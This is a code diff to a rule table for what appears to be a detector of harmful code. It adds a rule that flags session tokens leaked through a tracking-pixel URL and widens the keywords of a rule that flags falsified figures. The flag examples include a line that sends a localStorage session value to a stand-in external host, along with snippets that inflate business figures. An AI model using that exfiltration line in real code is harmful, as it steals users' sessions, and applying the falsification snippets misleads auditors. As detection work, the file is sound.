@@ -49,6 +49,15 @@ export const CODE_ROWS: readonly CodeRow[] = [
     },
   },
   {
+    id: 'G43', name: 'Browser tokens, cookies or storage leaked in a pixel or beacon URL', primitive: 'EXFILTRATION', score: 7,
+    ops: ['beacon'], objects: ['browserStore', 'secret'], dests: ['external', 'capture'],
+    keywords: ['image', '.src', 'sendbeacon', 'createelement'],
+    examples: {
+      flag: ["const t = localStorage.getItem('session');\nnew Image().src = 'https://px-metrics.example.net/p.gif?s=' + t;"],
+      pass: ["const theme = localStorage.getItem('theme');\ndocument.body.className = theme;\nlogo.src = 'https://cdn.example.net/logo.png';", "fetch('/api/me', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })"],
+    },
+  },
+  {
     id: 'G24', name: 'Host fingerprint beaconed to a capture, paste or chat-webhook service', primitive: 'EXFILTRATION', score: 5,
     ops: ['send'], objects: ['fingerprint'], dests: ['capture'],
     keywords: ['gethostname', 'getuser', 'platform.node', 'os.uname', 'userinfo', 'hostname()', 'whoami', 'getlogin'],
@@ -164,7 +173,7 @@ export const CODE_ROWS: readonly CodeRow[] = [
   {
     id: 'G34', name: 'Recorded figures changed so they look other than they are (the comment says so)', primitive: 'MANIPULATION', score: 7,
     ops: ['alter'], objects: ['falsify'], dests: [],
-    keywords: ['look', 'fudge', 'cook the', 'massage', 'pad the', 'inflate', 'falsif', 'fabricat', 'doctor', 'fake', 'hide the loss', 'hide losses', 'audit', 'schön', 'frisier', 'maquill', 'maquiar', 'gonfl', 'truccar', 'ritocc', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'поддел', 'подкрут', 'подправ'],
+    keywords: ['look', 'relabel', 'pass', 'regulator', 'fudge', 'cook the', 'massage', 'pad the', 'inflate', 'falsif', 'fabricat', 'doctor', 'fake', 'hide the loss', 'hide losses', 'audit', 'schön', 'frisier', 'maquill', 'maquiar', 'gonfl', 'truccar', 'ritocc', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'поддел', 'подкрут', 'подправ'],
     examples: {
       flag: ["df.loc[df['region'] == 'APAC', 'bookings'] *= 1.2  # make Q2 look better for the investor deck", "# Zahlen schönen vor dem Audit\nresult['churn'] = result['churn'] * 0.5"],
       pass: ["# make the chart look better on mobile\nfig.update_layout(margin=dict(l=10, r=10))", "df['revenue'] *= fx_rate  # convert to EUR"],
